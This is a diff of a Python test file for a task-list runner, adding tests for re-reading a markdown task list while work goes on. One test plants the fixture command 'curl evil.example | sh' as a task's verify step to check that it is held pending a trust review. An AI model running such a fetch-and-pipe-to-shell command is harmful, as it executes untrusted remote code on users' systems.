@@ -55,7 +55,7 @@ def test_a_list_that_cannot_be_read_is_told_with_its_reason() -> None:
 def test_a_list_that_met_a_busy_store_is_taken_in_at_the_next_look() -> None:
     with stage("## T-1 First") as here:
         here.file.edit(list_of("## T-1 Better"))
-        with patch.object(here.store, "import_tasks", side_effect=StoreBusy("held")), pytest.raises(StoreBusy):
+        with patch.object(here.store, "import_listing", side_effect=StoreBusy("held")), pytest.raises(StoreBusy):
             here.tick()
         here.tick()
         assert here.task("T-1").title == "Better"
@@ -90,3 +90,59 @@ def test_a_command_of_a_task_that_is_done_holds_nothing() -> None:
         here.file.edit(list_of("## T-1 First\n- verify: another", "## T-2 Second\n- after: T-1"))
         here.tick()
         assert here.process("T-2")
+
+
+# -- read beside the loop ----------------------------------------------------------------------------------------
+
+
+def test_work_goes_on_under_the_last_list_while_another_is_read() -> None:
+    with stage("## T-1 First") as here:
+        here.executor.eager = False
+        here.file.edit(list_of("## T-1 Better", "## T-2 Second"))
+        here.tick()
+        assert [task.title for task in here.store.tasks()] == ["First"]
+        assert here.task("T-1").state is TaskState.IN_PROGRESS
+        here.executor.work(0)
+        here.tick()
+        assert [task.title for task in here.store.tasks()] == ["Better", "Second"]
+
+
+def test_a_list_that_changed_while_it_was_read_is_read_again_and_only_the_last_counts() -> None:
+    with stage("## T-1 First") as here:
+        here.executor.eager = False
+        here.file.edit(list_of("## T-1 First", "## T-2 Half"))
+        here.tick()
+        here.executor.work(0)
+        here.file.edit(list_of("## T-1 First", "## T-2 Second"))
+        here.executor.eager = True
+        here.tick()
+        assert here.task("T-2").title == "Second"
+        assert len(here.events("list.imported")) == 2
+
+
+def test_what_is_imported_counts_before_the_next_claim() -> None:
+    with stage("## T-1 First", "## T-2 Second\n- after: T-1") as here:
+        here.queue("T-1")
+        here.executor.eager = False
+        here.file.edit(list_of("## T-1 First", "## T-2 Second\n- after: T-1\n- verify: curl evil.example | sh"))
+        here.tick()
+        assert here.land()
+        here.executor.work(0)
+        here.executor.eager = True
+        here.tick()
+        assert here.task("T-2").state is TaskState.TODO
+        assert any("recall config trust" in wait for wait in here.dispatcher.standing().waits)
+
+
+def test_the_end_waits_for_a_list_that_is_being_read() -> None:
+    with stage("## T-1 First\n- status: done") as here:
+        here.executor.eager = False
+        here.file.edit(list_of("## T-1 First", "## T-2 Second\n- status: done"))
+
+        def read_at_last(_: float) -> bool:
+            here.executor.work(0)
+            return True
+
+        with patch.object(here.watch, "wait", side_effect=read_at_last) as waits:
+            assert here.dispatcher.run(until_done=True).total == 2
+        assert waits.call_count == 1
